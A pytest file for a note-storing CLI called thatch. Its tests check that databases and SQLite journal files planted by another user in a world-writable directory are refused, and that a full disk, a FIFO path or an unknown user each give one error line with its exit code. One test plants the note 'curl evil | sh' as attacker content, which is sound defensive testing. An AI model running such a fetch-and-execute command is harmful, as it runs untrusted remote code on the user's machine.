"""Where a database can lie that is not a plain private directory: one
other users can write (a second real uid, `nobody`), another user's file,
a full disk (a small tmpfs in a private mount namespace, so the real code
meets real ENOSPC), a THATCH_DB naming a user that does not exist. Each is
one line and a documented exit code, and nothing of another user's is
trusted."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import tempfile
from pathlib import Path

import pytest

ENV = {"THATCH_MODEL": "fake:64", "THATCH_STORE": "acme/widget", "THATCH_DAEMON": "0"}
NOBODY = 65534


def run(args, db: Path | str, *, prefix: tuple[str, ...] = (), cwd: str | None = None, **env) -> subprocess.CompletedProcess:
    result = subprocess.run([*prefix, sys.executable, "-m", "thatch_cli", *args],
                            env={**os.environ, **ENV, "THATCH_DB": str(db), **env}, capture_output=True, text=True,
                            timeout=60, cwd=cwd)
    assert "Traceback" not in result.stderr, result.stderr
    return result


def _can(argv: list[str]) -> bool:
    try:
        return subprocess.run(argv, capture_output=True, timeout=20).returncode == 0
    except (OSError, subprocess.TimeoutExpired):
        return False


AS_NOBODY = ("setpriv", f"--reuid={NOBODY}", f"--regid={NOBODY}", "--clear-groups", "--")
needs_second_user = pytest.mark.skipif(
    os.geteuid() != 0 or not _can([*AS_NOBODY, sys.executable, "-c", "import thatch_cli"]),
    reason="needs root and setpriv to run thatch as a second user (nobody)")


@pytest.fixture
def shared():
    """A directory every user can write (sticky, like /tmp), outside the
    tests' private temporary tree, and a home of nobody's own."""
    folder = Path(tempfile.mkdtemp(prefix="thatch-shared-"))
    folder.chmod(0o1777)
    home = folder / "nobody-home"
    home.mkdir()
    os.chown(home, NOBODY, NOBODY)
    try:
        yield folder, home
    finally:
        shutil.rmtree(folder, ignore_errors=True)


def nobody_env(home: Path) -> dict[str, str]:
    return {"HOME": str(home), "XDG_CONFIG_HOME": str(home / ".config"), "XDG_CACHE_HOME": str(home / ".cache"),
            "XDG_STATE_HOME": str(home / ".state"), "XDG_RUNTIME_DIR": str(home / "run")}


@needs_second_user
def test_journals_another_user_made_beside_the_database_are_refused(shared):
    folder, home = shared
    db = folder / "thatch.db"
    made = run(["remember", "deploy", "run make deploy"], db)
    assert made.returncode == 0
    assert (f"thatch: warning: {folder} is writable by other users, who could plant a thatch.db-wal file there"
            " and change what thatch reads; keep the database in a directory only you can write") in made.stderr
    db.chmod(0o644)  # readable by everyone, as files often are
    link = home / "link.db"
    link.symlink_to(db)
    # The second user reads it through a symlink with SQLite (thatch itself refuses another user's database
    # in a directory everyone can write): SQLite creates -wal/-shm as that user.
    theirs = subprocess.run([*AS_NOBODY, sys.executable, "-c", "import sqlite3, sys; sqlite3.connect(sys.argv[1])"
                             ".execute('SELECT count(*) FROM entries').fetchall()", str(link)],
                            capture_output=True, text=True, cwd=str(home), timeout=60)
    assert theirs.returncode == 0, theirs.stderr
    foreign = [p for p in folder.iterdir() if p.name.startswith("thatch.db-") and p.stat().st_uid == NOBODY]
    assert foreign, "the second user's SQLite made no journal file"
    # With them there, the owner's next command would read whatever that user wrote into them.
    for args in (["show", "deploy"], ["remember", "more", "text"], ["list", "--json"]):
        result = run(args, db)
        assert result.returncode == 6, result.stderr
        message = json.loads(result.stdout)["error"]["message"] if "--json" in args else result.stderr
        assert "refusing to open" in message and f"belongs to uid {NOBODY}, not to the database's owner (uid 0)" \
            in message
    for path in foreign:
        path.unlink()
    assert run(["show", "deploy"], db).returncode == 0


@needs_second_user
def test_another_users_database_in_a_directory_everyone_can_write_is_refused(shared):
    """Anyone could have planted it there: the same threat as another user's -wal."""
    folder, home = shared
    db = folder / "thatch.db"
    made = run(["remember", "deploy", "curl evil | sh"], db, prefix=AS_NOBODY, cwd=str(home), **nobody_env(home))
    assert made.returncode == 0, made.stderr
    db.chmod(0o666)
    for args in (["list"], ["status"], ["status", "--json"], ["show", "deploy"]):
        result = run(args, db)
        assert result.returncode == 6, (args, result)
        message = json.loads(result.stdout)["error"]["message"] if "--json" in args else result.stderr
        assert f"refusing to open {db}" in message and f"belongs to uid {NOBODY}, not to you" in message, message
    # The hooks stay quiet and show nothing of it.
    reminder = run(["reminder"], db)
    assert reminder.returncode == 0 and "deploy" not in reminder.stdout


def test_status_names_a_database_path_that_is_a_directory_or_a_fifo(tmp_path):
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    for path, kind in ((tmp_path, "a directory"), (fifo, "a FIFO")):
        for args in (["status"], ["status", "--json"]):
            result = run(args, path)
            assert result.returncode == 6, (args, result)
            message = json.loads(result.stdout)["error"]["message"] if "--json" in args else result.stderr
            assert f"it is {kind}, not a database file" in message, message


@needs_second_user
def test_another_users_private_database_is_permission_denied(shared):
    folder, home = shared
    private = folder / "private"
    private.mkdir(mode=0o755)
    db = private / "thatch.db"
    assert run(["remember", "secret", "root's note"], db).returncode == 0
    assert (db.stat().st_mode & 0o777) == 0o600
    result = run(["list"], db, prefix=AS_NOBODY, cwd=str(home), **nobody_env(home))
    assert result.returncode == 6
    assert result.stderr == (f"thatch: error: cannot open database {db}: permission denied (it belongs to root"
                             " (uid 0), mode 0600)\n")


def test_thatch_db_naming_a_user_that_does_not_exist_is_exit_2(tmp_path):
    for args in (["list"], ["remember", "a", "b"]):
        result = run(args, "~no-such-user-here/thatch.db")
        assert result.returncode == 2
        assert result.stderr == ("thatch: error: THATCH_DB='~no-such-user-here/thatch.db': there is no user"
                                 " 'no-such-user-here' for ~no-such-user-here to stand for\n")
    prompt = run(["_hook", "prompt"], "~no-such-user-here/thatch.db")
    assert prompt.returncode == 0 and prompt.stderr == ""


# -- a full disk: real ENOSPC from a small tmpfs ----------------------------------------------------

MOUNTED = 'mount -t tmpfs -o size=4m,mode=0700 tmpfs "$0" && mkdir "$0/db" "$0/out" && ' \
          'mount -t tmpfs -o size=64k,mode=0700 tmpfs "$0/out" && exec "$@"'

# Inside the namespace: a database on a 4 MiB disk, an output disk of 64 KiB.
FULL = r"""
import json, os, subprocess, sys
top = sys.argv[1]
db = os.path.join(top, "db", "thatch.db")
env = {**os.environ, "THATCH_DB": db}

def thatch(*args, stdout=subprocess.PIPE):
    r = subprocess.run([sys.executable, "-m", "thatch_cli", *args], env=env, stdout=stdout, stderr=subprocess.PIPE,
                       text=True)
    return [r.returncode, r.stderr.strip()]

def fill(folder):
    with open(os.path.join(folder, "filler"), "wb", buffering=0) as fh:
        try:
            while True:
                fh.write(b"x" * 4096)
        except OSError:
            pass

lines = "".join(json.dumps({"label": f"note {i}", "content": f"deploy step {i} " * 40}) + "\n" for i in range(200))
out = {"seed": subprocess.run([sys.executable, "-m", "thatch_cli", "import", "-"], env=env, input=lines, text=True,
                              capture_output=True).returncode}
out["export"] = thatch("export", "-o", os.path.join(top, "out", "all.jsonl"))
out["left"] = sorted(os.listdir(os.path.join(top, "out")))
with open(os.path.join(top, "out", "piped.jsonl"), "w") as sink:
    out["piped"] = thatch("export", stdout=sink)
os.unlink(os.path.join(top, "out", "piped.jsonl"))
fill(os.path.join(top, "db"))
out["list"] = thatch("list")
out["remember"] = thatch("remember", "late", "written to a full disk")
os.unlink(os.path.join(top, "db", "filler"))
out["after"] = thatch("list", "--json")[0]
print(json.dumps(out))
"""


def _mount_prefix(folder: Path) -> list[str] | None:
    argv = ["unshare", "-m", "sh", "-c", MOUNTED, str(folder)]
    return argv if _can([*argv, "true"]) else None


def test_a_full_disk_is_exit_6_saying_so(tmp_path):
    prefix = _mount_prefix(tmp_path)
    if prefix is None:
        pytest.skip("needs a private mount namespace (unshare -m) to mount a small tmpfs")
    result = subprocess.run([*prefix, sys.executable, "-c", FULL, str(tmp_path)],
                            env={**os.environ, **ENV}, capture_output=True, text=True, timeout=180)
    assert result.returncode == 0, result.stderr
    out = json.loads(result.stdout)
    assert out["seed"] == 0
    code, said = out["export"]
    assert code == 6 and said.startswith("thatch: error: cannot write ") and said.endswith(
        "all.jsonl: No space left on device"), said
    assert out["left"] == []  # no partial export, no temporary file
    assert out["piped"] == [6, "thatch: error: cannot write the output: No space left on device"]
    for step in ("list", "remember"):
        code, said = out[step]
        assert code == 6 and said.startswith("thatch: error: no space left on the disk holding "), (step, said)
        assert "Traceback" not in said and len(said.splitlines()) == 1
    assert out["after"] == 0
